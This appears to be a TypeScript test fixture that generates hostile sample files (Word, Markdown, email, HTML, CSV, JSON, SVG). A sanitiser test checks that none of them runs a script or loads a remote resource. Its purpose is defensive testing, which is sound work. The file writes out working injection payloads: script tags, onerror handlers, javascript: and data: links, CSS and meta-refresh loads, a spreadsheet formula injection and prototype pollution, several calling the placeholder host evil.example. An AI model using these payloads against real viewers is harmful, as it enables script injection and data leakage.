import { strToU8, zipSync } from 'fflate';
import {
  makeDocx,
  makeText,
  type SampleDocument,
} from '#server/testing/sample-documents/sample-documents.ts';

/** Script that requests another host and opens a dialog; the test fails on either. */
export const ATTACK_SCRIPT = "fetch('https://evil.example/x');alert(1)";
export const ATTACK_PAGE = `<html><body><script>${ATTACK_SCRIPT}</script><img src="https://evil.example/p.png" onerror="${ATTACK_SCRIPT}"></body></html>`;
export const OFFICE_RELATIONSHIPS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** Documents that try to run a script, load a resource or navigate; each shows the words 'quiet text'. */
export function listMaliciousDocuments(): SampleDocument[] {
  return [
    makeMaliciousDocx(),
    makeText(
      'hostile.md',
      `# quiet text\n\n<script>${ATTACK_SCRIPT}</script><img src=x onerror="${ATTACK_SCRIPT}"><iframe srcdoc="<script>${ATTACK_SCRIPT}</script>"></iframe>\n\n[link](javascript:${encodeURIComponent(ATTACK_SCRIPT)}) [page](data:text/html,<script>${encodeURIComponent(ATTACK_SCRIPT)}</script>) ![far](https://evil.example/p.png)\n\n<div style="background:url(https://evil.example/s.png)">styled</div><style>@import 'https://evil.example/s.css';</style><form action="https://evil.example/"><button>send</button></form><meta http-equiv="refresh" content="0;url=https://evil.example/">`,
    ),
    {
      name: 'hostile.eml',
      mimeType: 'message/rfc822',
      buffer: Buffer.from(
        `From: "<script>${ATTACK_SCRIPT}</script>" <a@example.com>\r\nTo: b@example.com\r\nSubject: quiet text\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${ATTACK_PAGE}<svg><script>${ATTACK_SCRIPT}</script><use href="https://evil.example/u.svg#a"/></svg><a href="javascript:${ATTACK_SCRIPT}">click</a><base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/s.css"><video src="https://evil.example/v.mp4" poster="https://evil.example/v.png"></video>`,
      ),
    },
    makeText('hostile.html', `quiet text ${ATTACK_PAGE}`),
    makeText(
      'hostile.csv',
      `quiet text,link\n"=HYPERLINK(""javascript:${ATTACK_SCRIPT}"")","<script>${ATTACK_SCRIPT}</script>"\n`,
    ),
    makeText(
      'hostile.json',
      JSON.stringify({ 'quiet text': `<img src=x onerror="${ATTACK_SCRIPT}">`, __proto__: { polluted: 1 } }),
    ),
  ];
}

/** SVG image with a script and an external image. */
export function makeMaliciousSvg(): SampleDocument {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="${ATTACK_SCRIPT}"><script>${ATTACK_SCRIPT}</script><image href="https://evil.example/p.png" width="9" height="9"/><rect width="40" height="40" fill="teal"/></svg>`;
  return { name: 'hostile.svg', mimeType: 'image/svg+xml', buffer: Buffer.from(svg) };
}

/** Word document with an embedded page, a script link and a font name that contains CSS. */
function makeMaliciousDocx(): SampleDocument {
  const { name, mimeType } = makeDocx('hostile.docx', []);
  const relation = (id: string, type: string, target: string, mode = '') =>
    `<Relationship Id="${id}" Type="${OFFICE_RELATIONSHIPS}/${type}" Target="${target}" ${mode}/>`;
  const parts = {
    '[Content_Types].xml':
      '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="html" ContentType="text/html"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
    '_rels/.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relation('r1', 'officeDocument', 'word/document.xml')}</Relationships>`,
    'word/_rels/document.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relation('c1', 'aFChunk', 'chunk.html')}${relation('l1', 'hyperlink', `javascript:${ATTACK_SCRIPT}`, 'TargetMode="External"')}</Relationships>`,
    'word/chunk.html': ATTACK_PAGE,
    'word/document.xml': `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${OFFICE_RELATIONSHIPS}"><w:body><w:p><w:r><w:rPr><w:rFonts w:ascii="x'; background: url(https://evil.example/f)"/></w:rPr><w:t>quiet text</w:t></w:r></w:p><w:p><w:hyperlink r:id="l1"><w:r><w:t>click</w:t></w:r></w:hyperlink></w:p><w:altChunk r:id="c1"/></w:body></w:document>`,
  };
  const bytes = Object.entries(parts).map(([path, xml]) => [path, strToU8(xml)] as const);
  return { name, mimeType, buffer: Buffer.from(zipSync(Object.fromEntries(bytes))) };
}
